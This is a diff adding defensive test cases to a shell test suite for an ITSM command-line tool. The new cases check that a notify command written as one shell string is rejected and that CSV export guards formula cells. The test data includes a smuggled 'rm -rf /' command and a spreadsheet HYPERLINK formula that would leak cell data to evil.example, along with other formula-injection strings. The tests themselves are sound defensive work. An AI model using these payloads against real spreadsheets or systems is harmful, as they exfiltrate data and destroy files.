@@ -67,6 +67,10 @@ use_config office
 sed -i '0,/holidays = \[/s//holidays = ["2026-02-30", /' "$ITSM_CONFIG/service-windows.toml"
 run log --title "x"
 expect_error 5 "service-windows.toml:[0-9]+:[0-9]+: " "a holiday that does not exist"
+use_config office
+printf '\n[notify]\ncommand = "sendmail -t; rm -rf /"\n' >>"$ITSM_CONFIG/itsm.toml"
+run log --title "x"
+expect_error 5 "itsm.toml:[0-9]+:[0-9]+: .*command. must be an array" "a notify command as one shell string"
 unchanged "bad configurations"
 use_config office
 
@@ -113,6 +117,26 @@ expect_error 2 "UTF-8" "an encoded surrogate in a field"
 run log --title "x" --requester $'two\nlines'
 expect_error 2 "single line" "a newline in a one-line field"
 unchanged "bad text"
+
+# --- CSV export: formula injection ----------------------------------------------------------
+for f in '=HYPERLINK("http://evil.example/?"&A1)' '+1+cmd|calc' '-2+3' '@SUM(A1:A9)'; do
+  run log --title "$f" --requester "$f" --at "2026-11-23 11:00"
+  expect_code 0 "log a title that looks like a formula: $f"
+done
+csv=$(itsm export --format csv)
+for f in '=HYPERLINK' '+1+cmd' '-2+3' '@SUM'; do
+  expect_match "$csv" "(^|,)\"?'$(sed 's/[+()|]/\\&/g' <<<"$f")" "CSV: a cell starting with ${f:0:1} is guarded"
+  if grep -q "^[0-9]*,[A-Z]*-[0-9]*,[a-z]*,$(sed 's/[+()|]/\\&/g' <<<"$f")" <<<"$csv"; then
+    fail "CSV: an unguarded cell starts with ${f:0:1}"
+  fi
+done
+run list --format csv
+expect_match "$OUT" "'=HYPERLINK" "list --format csv guards formulas too"
+itsm export --format csv >"$SCRATCH/guarded.csv"
+run --db "$SCRATCH/guarded.db" import "$SCRATCH/guarded.csv"
+expect_code 0 "the guarded CSV imports"
+expect_eq "$(itsm --db "$SCRATCH/guarded.db" show INC-2 --format json | jq -r .title)" '=HYPERLINK("http://evil.example/?"&A1)' "the guard is removed on import"
+before=$(store_digest)
 
 # --- stores ---------------------------------------------------------------------------------
 head -c 8192 /dev/urandom >"$SCRATCH/random.db"
